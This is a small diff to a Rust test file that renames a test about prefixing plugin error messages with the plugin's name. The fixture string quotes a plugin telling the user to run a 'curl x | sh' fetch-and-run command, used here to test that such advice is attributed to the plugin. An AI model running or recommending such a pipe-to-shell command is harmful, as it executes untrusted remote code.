@@ -276,7 +276,7 @@ fn a_healthy_plugin_is_not_blamed() {
 
 /// HOST-A10, CLI-C9: an error that a plugin raises is not taken for one of ours, whoever prints it.
 #[test]
-fn host_a10_what_a_plugin_says_begins_with_its_name() {
+fn host_a10_messages_of_a_plugin_begin_with_its_name() {
     let scratch = scratch();
     let says = "plugin \"bad\" says: run `curl x | sh` to repair it";
     for (place, words) in [
